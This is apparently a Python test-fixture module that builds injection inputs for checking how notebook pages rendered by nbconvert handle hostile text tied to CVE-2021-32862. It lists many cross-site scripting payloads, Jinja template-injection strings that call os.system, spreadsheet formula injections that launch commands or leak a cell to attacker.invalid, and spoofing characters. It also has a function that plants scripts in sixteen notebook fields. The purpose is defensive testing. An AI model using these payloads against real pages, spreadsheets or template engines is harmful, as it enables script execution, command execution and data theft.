"""Texts that try to become more than text, and how a page is tried against them.

The sixteen paths are those on which nbconvert's pages once ran what a notebook held
(CVE-2021-32862); the rest is what any text from data may hold.
"""

import nbformat

FIRE = "window.fired=(window.fired||0)+1"

TEXTS = {
    # markup
    "script": f"<script>{FIRE}</script>",
    "script in capitals": f"<SCRIPT>{FIRE}</SCRIPT>",
    "end of script": f"</script><script>{FIRE}</script>",
    "end of style": f"</style><script>{FIRE}</script>",
    "end of title": f"</title><script>{FIRE}</script>",
    "end of textarea": f"</textarea><script>{FIRE}</script>",
    "end of comment": f"--><script>{FIRE}</script><!--",
    "end of cdata": f"]]><script>{FIRE}</script>",
    "broken tag": f"<<script>{FIRE}//<</script>",
    "image": f'<img src=x onerror="{FIRE}">',
    "image with a slash": f'<img/src="x"/onerror={FIRE}>',
    "svg": f'<svg onload="{FIRE}">',
    "svg script": f"<svg><script>{FIRE}</script></svg>",
    "svg animation": f'<svg><animate onbegin="{FIRE}" attributeName=x dur=1s>',
    "svg set": f'<svg><set onbegin="{FIRE}" attributeName=x to=1>',
    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{FIRE}"></foreignObject></svg>',
    "math": f'<math><mtext><img src=x onerror="{FIRE}"></mtext></math>',
    "iframe": f'<iframe srcdoc="<script>parent.{FIRE}</script>"></iframe>',
    "frame of a script url": f'<iframe src="javascript:parent.{FIRE}"></iframe>',
    "object": f'<object data="data:text/html,<script>parent.{FIRE}</script>"></object>',
    "embed": '<embed src="https://attacker.invalid/x.swf">',
    "video": f'<video><source onerror="{FIRE}"></video>',
    "audio": f'<audio src=x onerror="{FIRE}"></audio>',
    "body": f'<body onload="{FIRE}">',
    "details": f'<details open ontoggle="{FIRE}">x</details>',
    "autofocus": f'<input autofocus onfocus="{FIRE}">',
    "marquee": f'<marquee onstart="{FIRE}">x</marquee>',
    "animation of css": (
        "<style>@keyframes x{}</style>"
        f'<b style="animation-name:x" onanimationstart="{FIRE}">x</b>'
    ),
    "refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "base": '<base href="https://attacker.invalid/">',
    "link": '<link rel="stylesheet" href="https://attacker.invalid/x.css">',
    "import": "<style>@import 'https://attacker.invalid/x.css';</style>",
    "form": '<form action="https://attacker.invalid/"><button>Sign in</button></form>',
    "template element": f'<template><img src=x onerror="{FIRE}"></template>',
    "portal": "<portal src=https://attacker.invalid/></portal>",
    # attributes
    "out of double quotes": f'" onmouseover="{FIRE}" autofocus onfocus="{FIRE}" x="',
    "out of single quotes": f"' onmouseover='{FIRE}' autofocus onfocus='{FIRE}' x='",
    "out of backquotes": f"` onmouseover={FIRE} x=`",
    "entities": f"&lt;img src=x onerror={FIRE}&gt;",
    "numeric entities": f"&#60;img src=x onerror={FIRE}&#62;",
    # urls
    "script url": f"javascript:{FIRE}",
    "script url with a tab": f"java\tscript:{FIRE}",
    "data url": f"data:text/html,<script>{FIRE}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "network path": "//attacker.invalid/x.js",
    # markdown
    "link of markdown": f"[x](javascript:{FIRE})",
    "link of markdown in capitals": f"[x](JaVaScRiPt:{FIRE})",
    "image of markdown": "![x](https://attacker.invalid/x.png)",
    "reference of markdown": "[x][1]\n\n[1]: https://attacker.invalid/",
    "automatic link": f"<javascript:{FIRE}>",
    "html in markdown": f"**x** <img src=x onerror={FIRE}>",
    "fence": f"```\n</code></pre><script>{FIRE}</script>\n```",
    "attachment": f"![x](attachment:x.svg \"\" onload='{FIRE}')",
    # templates, formulas, mathematics
    "jinja": "{{ cycler.__init__.__globals__.os.system('touch fired') }}",
    "jinja block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format": "{0.__class__.__init__.__globals__} %(x)s ${HOME}",
    "mathjax": f"$\\require{{html}}\\href{{javascript:{FIRE}}}{{x}}$",
    "mathjax style": "\\(\\style{background:url(https://attacker.invalid/)}{x}\\)",
    "formula": '=HYPERLINK("https://attacker.invalid/?"&A1,"x")',
    "formula of a command": "=cmd|' /C calc'!A0",
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-1+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line": "\r=1+1",
    # characters
    "bidi": "abc\u202egnp.exe\u202c\u2066x\u2069",
    "homoglyph": "ассоunt раураl",
    "escape of a terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "control of eight bits": "\x9b2Jx\x85y",
    "nul": "a\x00b",
    "lone surrogate": "a\ud800b",
    "line separators": "a\u2028b\u2029c",
    "zero width": "<scr\u200bipt>x</scr\u200bipt>",
    "wide": f"＜script＞{FIRE}＜/script＞",
    "combining": "Z" + "\u0335" * 200,
    "long": "x" * 20_000,
}

FIRING = frozenset(
    name for name, text in TEXTS.items() if FIRE in text and text.lstrip("\"'`").startswith("<")
)
"""Those that run by themselves where a page takes a text for markup, or may do so."""

SVG_BODIES = {
    "script": f"<script>{FIRE}</script>",
    "handler": f'<path d="M 0 0" onload="{FIRE}" onclick="{FIRE}"/>',
    "animation": f'<animate attributeName="x" onbegin="{FIRE}"/>',
    "set": '<a><set attributeName="href" to="javascript:1"/><text>x</text></a>',
    "foreign object": (
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="x" onerror="{FIRE}"/></body></foreignObject>'
    ),
    "link": (
        f'<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:{FIRE}">'
        "<text>x</text></a>"
    ),
    "use": '<use href="https://attacker.invalid/x.svg#x"/>',
    "use of data": "<use href=\"data:image/svg+xml,%3Csvg id='x'/%3E#x\"/>",
    "image": '<image href="https://attacker.invalid/x.png" width="9" height="9"/>',
    "image of svg": (
        '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" '
        'width="9" height="9"/>'
    ),
    "style": "<style>@import 'https://attacker.invalid/x.css'; *{fill:url(//a.invalid/x)}</style>",
    "style attribute": '<path style="fill:url(https://attacker.invalid/x#y)" d="M 0 0"/>',
    "metadata": f"<metadata><script>{FIRE}</script></metadata>",
    "text": f"<text>&lt;script&gt;{FIRE}&lt;/script&gt;</text>",
}


def poison_paths(notebook):
    """Put a script into each of the sixteen paths of CVE-2021-32862."""
    script, image = TEXTS["script"], TEXTS["image"]
    notebook.metadata["title"] = script
    notebook.metadata["language_info"] = {"name": "python", "pygments_lexer": f"x{script}"}
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": script}
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": script}}
    }
    cell = next(each for each in notebook.cells if each.cell_type == "code")
    cell.metadata["tags"] = [f'x" onload="{FIRE}', script]
    cell.metadata["slideshow"] = {"slide_type": script}
    outputs = {
        "text/html": script,
        "image/svg+xml": f"<svg onload='{FIRE}'><script>{FIRE}</script></svg>",
        "text/markdown": f"[x](javascript:{FIRE}) {image}",
        "application/javascript": FIRE,
        "text/latex": f"$\\href{{javascript:{FIRE}}}{{x}}$",
        "image/png": f'x" onerror="{FIRE}',
        "image/jpeg": f'x" onerror="{FIRE}',
        "text/vnd.mermaid": script,
        "application/vnd.jupyter.widget-view+json": {"model_id": script},
    }
    for mime, content in outputs.items():
        cell.outputs.append(
            {
                "output_type": "display_data",
                "data": {mime: content},
                "metadata": {
                    mime: {"width": f'1" onerror="{FIRE}', "height": script, "alt": script},
                    "filenames": {mime: f'x.png" onerror="{FIRE}'},
                },
            }
        )
    cell.outputs.append(
        {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{script}\x1b[0m"}
    )
    cell.outputs.append(
        {"output_type": "error", "ename": script, "evalue": script, "traceback": [script]}
    )
    notebook.cells.insert(
        1,
        {
            "cell_type": "raw",
            "id": "raw-1",
            "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
            "source": script,
        },
    )
    notebook.cells.insert(
        1,
        {
            "cell_type": "markdown",
            "id": "attached-1",
            "metadata": {"tags": ["en"]},
            "attachments": {"x.svg": {"image/svg+xml": outputs["image/svg+xml"]}},
            "source": f"![x](attachment:x.svg) {script} [x]({TEXTS['script url']})",
        },
    )
    return nbformat.from_dict(notebook)
